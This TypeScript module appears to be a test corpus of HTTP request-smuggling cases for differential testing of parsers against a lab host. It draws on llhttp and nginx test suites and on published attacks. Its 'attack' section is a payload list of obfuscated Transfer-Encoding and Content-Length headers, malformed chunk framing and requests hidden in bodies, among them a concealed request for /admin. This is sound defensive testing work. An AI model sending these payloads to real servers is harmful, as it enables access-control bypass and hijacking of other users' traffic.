// Requests that parsers are known to read differently: what the test suites of llhttp and nginx and published attacks are about,
// as byte strings. `\r\n` ends lines of `head`; whatever is odd stands in the text.

/** One sequence of bytes on one connection. */
export interface SmugglingCase {
  /** "suite: what". */
  readonly name: string;
  /** Latin1. */
  readonly bytes: string;
  /** Goes to the listener that takes HTTP/1.0 and passes trailers. */
  readonly lenient: boolean;
}

const next = "GET /next HTTP/1.1\r\nHost: lab\r\n\r\n";
const chunked = "Transfer-Encoding: chunked";

function entry(suite: string, lenient: boolean): (name: string, bytes: string) => SmugglingCase {
  return (name, bytes) => ({ name: `${suite}: ${name}`, bytes, lenient });
}

/** A POST with these lines and this body, and a second request behind it. */
const post = (lines: readonly string[], body: string, line = "POST /first HTTP/1.1"): string =>
  `${[line, "Host: lab", ...lines].join("\r\n")}\r\n\r\n${body}${next}`;
const get = (...lines: readonly string[]): string => `${["GET /first HTTP/1.1", "Host: lab", ...lines].join("\r\n")}\r\n\r\n${next}`;
const line = (text: string): string => `${text}\r\nHost: lab\r\n\r\n${next}`;

const llhttp = entry("llhttp", false);
const llhttpCases: readonly SmugglingCase[] = [
  llhttp("ICE protocol", line("GET /first ICE/1.0")),
  llhttp("IHTTP protocol", line("GET /first IHTTP/1.0")),
  llhttp("RTSP protocol", line("PUT /first RTSP/1.0")),
  llhttp("method of another protocol", line("ANNOUNCE /first HTTP/1.0")),
  llhttp("fields separated by CR", get("Foo: 1\rBar: 2")),
  llhttp("fields separated by LF, the second frames", post([`x:x\n${chunked}`], "1\r\nA\r\n0\r\n\r\n")),
  llhttp(
    "CR and a letter between fields",
    "GET /first HTTP/1.1\r\nConnection: close\r\nHost: lab\r\n\rZGET /evil: HTTP/1.1\r\nHost: lab\r\n\r\n",
  ),
  llhttp("empty value ended by CR, framing behind", post([`x:\r${chunked}`], "1\r\nA\r\n0\r\n\r\n")),
  llhttp("empty value ended by LF, framing behind", post([`x:\n${chunked}`], "1\r\nA\r\n0\r\n\r\n")),
  llhttp("at sign in a name", get("Fo@: x")),
  llhttp("control character in a name", get("Foo\x01test: x")),
  llhttp("empty name", get(": x")),
  llhttp("unknown method", line("MKCOLA /first HTTP/1.1")),
  llhttp("folded name", get("name", " : value")),
  llhttp("Connection broken by CR and escapes", get("Connection\r\x1b5\xd5eep-Alive: x")),
  llhttp("name broken by CR and escapes", get("X-Some\r\x1b5\xd5eep-Alive")),
  llhttp(
    "LF before Content-Length",
    "GET /first HTTP/1.1\r\nHost: lab\r\nDummy: x\nContent-Length: 34\r\n\r\nGET /hidden HTTP/1.1\r\nDummy: GET /admin HTTP/1.1\r\nHost: lab\r\n\r\n",
  ),
  llhttp("version 5.6", line("GET /first HTTP/5.6")),
  llhttp("space before the first field", "GET /first HTTP/1.1\r\n Host: lab\r\n\r\n"),
  llhttp("LF alone everywhere", `POST /first HTTP/1.1\nHost: lab\n${chunked}\nTrailer: Baz\n\n1\nA\n1;abc\nB\n0\n\n`),
  llhttp(
    "folded Content-Length hides a request",
    "POST /first HTTP/1.1\r\nHost: lab\r\nFoo: bar\r\n Content-Length: 38\r\n\r\nGET /hidden HTTP/1.1\r\nHost: lab\r\n\r\n",
  ),
  llhttp("lower-case size", post([chunked], "a\r\n0123456789\r\n0\r\n\r\n")),
  llhttp("three zeros end", post([chunked], "5\r\nhello\r\n000\r\n\r\n")),
  llhttp("trailers", post([chunked], "5\r\nhello\r\n0\r\nVary: *\r\nContent-Type: text/plain\r\n\r\n")),
  llhttp("chunk extensions", post([chunked], "5;a;b=c;d=e\r\nhello\r\n0\r\n\r\n")),
  llhttp("text behind a size without a semicolon", post([chunked], "2 abc\r\naa\r\n0 def\r\n\r\n")),
  llhttp("nothing behind the semicolon", post([chunked], "2;\r\naa\r\n0\r\n\r\n")),
  llhttp("quoted extension with escapes", post([chunked], '5;a="I \\"x\\"; \\\\y\\\\";b="c";d\r\nhello\r\n0\r\n\r\n')),
  llhttp("unbalanced quotes in an extension", post([chunked], '5;a="abc";b="def; ghi\r\nhello\r\n0\r\n\r\n')),
  llhttp("coding nobody knows", post(["Transfer-Encoding: pigeons"], "")),
  llhttp("identity with Content-Length", post(["Transfer-Encoding: identity", "Content-Length: 5"], "World")),
  llhttp(
    "three empty codings and Content-Length",
    post(["Content-Length: 10", ...Array.from({ length: 3 }, () => "Transfer-Encoding:")], "2\r\nAA\r\n0\r\n\r\n"),
  ),
  llhttp("chunked, deflate", post(["Transfer-Encoding: chunked, deflate"], "5\r\nWorld\r\n0\r\n\r\n")),
  llhttp("chunked and deflate in two fields", post([chunked, "Transfer-Encoding: deflate"], "5\r\nWorld\r\n0\r\n\r\n")),
  llhttp("deflate, chunked", post(["Transfer-Encoding: deflate, chunked"], "5\r\nWorld\r\n0\r\n\r\n")),
  llhttp("deflate and chunked in two fields", post(["Transfer-Encoding: deflate", chunked], "5\r\nWorld\r\n0\r\n\r\n")),
  llhttp("chunkedchunked", post(["Transfer-Encoding: chunkedchunked"], "5\r\nWorld\r\n0\r\n\r\n")),
  llhttp("no last chunk", post([chunked], "3\r\nfoo\r\n\r\n")),
  llhttp("LF behind a size and a space", post([chunked], "3 \n  \r\nfoo\r\n0\r\n\r\n")),
  llhttp("folded behind chunked", post([chunked, "  abc"], "5\r\nWorld\r\n0\r\n\r\n")),
  llhttp("two CRs behind a size", post([chunked], "5\r\r;ABCD\r\n34\r\nE\r\n0\r\n\r\n")),
  llhttp("chunk not ended by CRLF", post([chunked], "5\r\nABCDE0\r\n\r\n")),
  llhttp("space behind a size", post([chunked], "a \r\n0123456789\r\n0\r\n\r\n")),
  llhttp("Content-Length with zeros in front", post(["Content-Length: 003"], "abc")),
  llhttp("Content-Length too large", post(["Content-Length: 1000000000000000000000"], "")),
  llhttp("two Content-Lengths", post(["Content-Length: 1", "Content-Length: 2"], "ab")),
  llhttp("space before the colon of Content-Length", post(["Connection: upgrade", "Content-Length : 4", "Upgrade: ws"], "abcdefgh")),
  llhttp("Content-Length in odd case", post(["conTENT-Length: 5"], "HELLO")),
  llhttp("spaces around Content-Length", post(["Content-Length:  3 "], "abc")),
  llhttp("tabs around Content-Length", post(["Content-Length:\t3\t  "], "abc")),
  llhttp("space inside Content-Length", post(["Content-Length: 4 2"], "")),
  llhttp("two numbers in Content-Length", post(["Content-Length: 13 37"], "")),
  llhttp("empty Content-Length", post(["Content-Length:"], "")),
  llhttp("CR in the name of Content-Length", post(["Content\rLength: 3"], "abc")),
  llhttp("CR before the body", "POST /first HTTP/1.1\r\nHost: lab\r\nContent-Length: 3\r\n\rabc"),
  llhttp("form feed in a value", get("Header1: \f")),
  llhttp("CR for the hyphen in keep-alive", get("Connection: keep\ralive")),
  llhttp("close followed by a tab, a request behind", post(["Content-Length: 4", "Connection: close\t"], "q=42")),
  llhttp("close, CRLF and a request behind", post(["Content-Length: 4", "Connection: close"], "q=42\r\n")),
  llhttp("CRLF and a request behind", post(["Content-Length: 4"], "q=42\r\n")),
  llhttp("many options in Connection", get("Connection: close, token, upgrade, token, keep-alive")),
  llhttp("folded Connection", get("Connection: Something,", " Upgrade, ,Keep-Alive", "Upgrade: WebSocket")),
  llhttp("space before the colon of Connection", post(["Connection : upgrade", "Content-Length: 4", "Upgrade: ws"], "abcdefgh")),
  llhttp("upgrade with Content-Length", post(["Connection: upgrade", "Content-Length: 4", "Upgrade: ws"], "abcdefgh")),
  llhttp("upgrade to HTTP/2.0 by POST", post(["Connection: Upgrade", "Upgrade: HTTP/2.0", "Content-Length: 15"], "sweet post body")),
  llhttp("CONNECT with a body", "CONNECT lab:443 HTTP/1.1\r\nHost: lab\r\nContent-Length: 10\r\n\r\nblarfcicle"),
  llhttp("CONNECT with bytes behind", `CONNECT lab:443 HTTP/1.1\r\nHost: lab\r\n\r\n${next}`),
  llhttp("PRI without the rest", "PRI * HTTP/1.1\r\n\r\nSM\r\n\r\n"),
  llhttp("M-SEARCH *", line("M-SEARCH * HTTP/1.1")),
  llhttp("QUERY with a body", post(["Content-Length: 3"], "abc", "QUERY /first HTTP/1.1")),
  llhttp("quotes in the target", line('GET /with_"q"?foo=\\"bar\\" HTTP/1.1')),
  llhttp("space in the target", line("GET /foo bar/ HTTP/1.1")),
  llhttp("bytes above 127 in the target", line("GET /\xce\xb4\xc2\xb6/x HTTP/1.1")),
  llhttp("fragment in the target", line("GET /first?page=1#posts HTTP/1.1")),
  llhttp("user and odd characters in an absolute target", line("GET http://a%12:b!&*$@lab:1234/first HTTP/1.1")),
  llhttp("no version", line("GET /first")),
  llhttp("field whose value is all signs", get("aaaaaaaaaaaaa:++++++++++")),
];

const nginx = entry("nginx", false);
const nginxCases: readonly SmugglingCase[] = [
  nginx("chunk longer than announced", post([chunked, "Connection: close"], "4\r\nSEE-THIS\r\n0\r\n\r\n")),
  nginx("identity", post(["Transfer-Encoding: identity"], "0\r\n\r\n")),
  nginx("chunked twice, by LF", post([`${chunked}\nTransfer-Encoding: chunked`], "0\r\n\r\n")),
  nginx("chunked, identity", post(["Transfer-Encoding: chunked, identity"], "0\r\n\r\n")),
  nginx("chunked and Content-Length, by LF", post([`${chunked}\nContent-Length: 5`], "0\r\n\r\n")),
  nginx(
    "five chunked requests in a row",
    Array.from({ length: 5 }, (_, n) => `GET /${n} HTTP/1.1\r\nHost: lab\r\n${chunked}\r\n\r\n3\r\nabc\r\n0\r\n\r\n`).join(""),
  ),
  ...[
    "",
    ".",
    "lab:",
    "lab.:1.2",
    "1.2.3.4:98777",
    "1.2.3.4:9000:80",
    "example.com/\\:552",
    "..examp-LE.com",
    "[abcd::e\\f98:0/:7654:321]",
    "[::1].",
    "[::1].:98",
    "extra[::1]:98",
    "[abcd::ef98",
    "[v1aF.!$&'()*+,;=-._~:]",
    "lab\x02",
    "lab\nHost: again",
  ].flatMap((host) => [
    nginx(`Host ${JSON.stringify(host)}`, `GET /first HTTP/1.1\r\nHost: ${host}\r\n\r\n${next}`),
    nginx(`target http://${JSON.stringify(host)}`, `GET http://${host}/first HTTP/1.1\r\nHost: lab\r\n\r\n${next}`),
  ]),
  nginx("CONNECT with a path", line("CONNECT /first HTTP/1.1")),
  nginx("CONNECT without a port", line("CONNECT lab HTTP/1.1")),
  nginx("TRACE", line("TRACE /first HTTP/1.1")),
  nginx("percent at the end", line("GET /first% HTTP/1.1")),
  nginx("half an escape", line("GET /first%1 HTTP/1.1")),
  nginx("absolute target with a query alone", line("GET http://lab?args HTTP/1.1")),
  nginx("absolute target with a query and a fragment", line("GET http://lab?args#frag HTTP/1.1")),
  nginx("space as a target's part", line("GET / / HTTP/1.1")),
  nginx("control character in the target", line("GET /\x02 HTTP/1.1")),
  nginx("two Hosts", "GET /first HTTP/1.1\r\nHost: lab\r\nHost: other\r\n\r\n"),
  nginx("two equal Content-Lengths of 0", post(["Content-Length: 0", "Content-Length: 0"], "")),
  ...["If-Modified-Since", "Content-Range", "Authorization", "Expect", "Range"].map((name) =>
    nginx(`two of ${name}`, get(`${name}: foo`, `${name}: bar`)),
  ),
  nginx("two codings nobody knows", post(["Transfer-Encoding: foo", "Transfer-Encoding: bar"], "")),
  nginx("underscore and dot in names", get("x_foo: a", "_foo: b", "x.foo: c", ".foo: d")),
  nginx("angle brackets in a name", get("coo: foo", "</kie>: x")),
  nginx("colon first", get(":foo: x")),
  nginx("space first", get("a: b", " foo: x")),
  nginx("control character in a name", get("foo\x02: x")),
];

const attack = entry("attack", false);
const obscured = [
  "Transfer-Encoding : chunked",
  " Transfer-Encoding: chunked",
  "\tTransfer-Encoding: chunked",
  "Transfer-Encoding:\tchunked",
  "Transfer-Encoding: \x0bchunked",
  "Transfer-Encoding: \x0cchunked",
  "Transfer-Encoding: chunked\x00",
  "Transfer-Encoding: xchunked",
  "Transfer-Encoding: x, chunked",
  "Transfer-Encoding: chunked, x",
  'Transfer-Encoding: "chunked"',
  "Transfer-Encoding: chunked;q=1",
  "Transfer-Encoding:\r\n chunked",
  "Transfer-Encoding\r\n: chunked",
  "Transfer_Encoding: chunked",
  "Transfer-Encoding: CHUNKED",
  "Transfer-Encoding: chun\u006bed, ,",
  "Transfer-Encod\u00efng: chunked",
  "X: y\rTransfer-Encoding: chunked",
  "X: y\nTransfer-Encoding: chunked",
  "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
  "Foo: bar\r\n\rTransfer-Encoding: chunked",
  "Connection: transfer-encoding\r\nTransfer-Encoding: chunked",
];
const attackCases: readonly SmugglingCase[] = [
  ...obscured.flatMap((field) => [
    attack(`${JSON.stringify(field)} before Content-Length`, post([field, "Content-Length: 4"], "1\r\nA\r\n0\r\n\r\n")),
    attack(`${JSON.stringify(field)} alone`, post([field], "1\r\nA\r\n0\r\n\r\n")),
  ]),
  ...["+5", "-5", "0x5", "5,5", "5, 5", "5 5", "5\x00", "5;", "５", "5\x0b", "05", "5e0", "", "_5", "5.0"].map((value) =>
    attack(`Content-Length ${JSON.stringify(value)}`, post([`Content-Length: ${Buffer.from(value, "utf8").toString("latin1")}`], "hello")),
  ),
  ...[
    "Content-Length : 5",
    " Content-Length: 5",
    "Content_Length: 5",
    "Content-Length\x00: 5",
    "X: y\rContent-Length: 5",
    "Connection: content-length\r\nContent-Length: 5",
  ].map((field) => attack(`${JSON.stringify(field)} with five bytes`, post([field], "hello"))),
  ...[
    "5\n",
    "5\r",
    "5\r\n\n",
    "0x5\r\n",
    "+5\r\n",
    "5_\r\n",
    "\r\n5\r\n",
    " 5\r\n",
    "5;\n",
    "5;a\rb\r\n",
    "5\x00\r\n",
    "5g\r\n",
    "00000000000000005\r\n",
    "10000000000000005\r\n",
    "-1\r\n",
  ].map((size) => attack(`chunk size ${JSON.stringify(size)}`, post([chunked], `${size}hello\r\n0\r\n\r\n`))),
  ...["\n", "\r", "xx", "\r\r\n", ""].map((end) =>
    attack(`chunk ended by ${JSON.stringify(end)}`, post([chunked], `5\r\nhello${end}0\r\n\r\n`)),
  ),
  ...[
    "0\n\n",
    "0\r\n\n",
    "0\r\n\r",
    "0\r\nx: y\n\r\n",
    "0\r\nContent-Length: 9\r\n\r\n",
    "0\r\nTransfer-Encoding: chunked\r\n\r\n",
    "0\r\n x\r\n\r\n",
    "0;a=\n\r\n\r\n",
    "0\r\nHost: other\r\n\r\n",
  ].map((end) => attack(`body ended by ${JSON.stringify(end)}`, post([chunked], `5\r\nhello\r\n${end}`))),
  attack("GET with a body that is a request", `GET /first HTTP/1.1\r\nHost: lab\r\nContent-Length: ${next.length}\r\n\r\n${next}`),
  attack("HEAD with a body that is a request", `HEAD /first HTTP/1.1\r\nHost: lab\r\nContent-Length: ${next.length}\r\n\r\n${next}`),
  attack("Expect and a body at once", post(["Expect: 100-continue", "Content-Length: 5"], "hello")),
  attack("Expect of two kinds", post(["Expect: y\r\nExpect: 100-continue", "Content-Length: 5"], "hello")),
  attack(
    "h2c upgrade with a request behind",
    post(["Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABk"], ""),
  ),
  attack(
    "websocket upgrade with a request behind",
    post(["Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 777"], "", "GET /first HTTP/1.1"),
  ),
  attack("line break escaped in the target", line("GET /first%0d%0aX:%20y HTTP/1.1")),
  attack("absolute target against another Host", line("GET http://other/first HTTP/1.1")),
  attack("target with a space and a version", line("GET /first HTTP/1.1 HTTP/1.1")),
  attack("version and tab", line("GET /first\tHTTP/1.1")),
  attack("request line folded", line("GET /first\r\n HTTP/1.1")),
  attack("two blank lines and a request", `\r\n\r\n${get()}`),
  attack("X-HTTP-Method-Override stays a field", get("X-HTTP-Method-Override: DELETE")),
  attack("Connection takes Host off", get("Connection: host")),
  attack("Connection takes X-Forwarded-For off", get("Connection: x-forwarded-for", "X-Forwarded-For: 1.1.1.1")),
  attack("Connection takes a pseudo-field off", get("Connection: :path")),
  attack("Host by a space before the colon", `GET /first HTTP/1.1\r\nHost : other\r\nHost: lab\r\n\r\n${next}`),
  attack("Host folded", `GET /first HTTP/1.1\r\nHost: lab\r\n .other\r\n\r\n${next}`),
];

const ten = entry("HTTP/1.0", true);
const tenCases: readonly SmugglingCase[] = [
  ten("chunked", post([chunked], "1\r\nA\r\n0\r\n\r\n", "POST /first HTTP/1.0")),
  ten("chunked and keep-alive", post([chunked, "Connection: keep-alive"], "1\r\nA\r\n0\r\n\r\n", "POST /first HTTP/1.0")),
  ten("a request behind one without keep-alive", post(["Content-Length: 3"], "abc", "POST /first HTTP/1.0")),
  ten("a request behind one with keep-alive", post(["Content-Length: 3", "Connection: keep-alive"], "abc", "POST /first HTTP/1.0")),
  ten("POST without a length", post([], "abc", "POST /first HTTP/1.0")),
  ten("upgrade", post(["Connection: upgrade", "Upgrade: websocket"], "", "GET /first HTTP/1.0")),
  ten("Expect", post(["Expect: 100-continue", "Content-Length: 3"], "abc", "POST /first HTTP/1.0")),
  ten("1.1 with trailers that frame", post([chunked], "1\r\nA\r\n0\r\nContent-Length: 9\r\nHost: x\r\n\r\n")),
  ten("1.1 with trailers named in Connection", post([chunked, "Connection: x-t"], "1\r\nA\r\n0\r\nx-t: 1\r\n\r\n")),
];

/** Every case, in the order they run. */
export const smugglingCases: readonly SmugglingCase[] = [...llhttpCases, ...nginxCases, ...attackCases, ...tenCases];
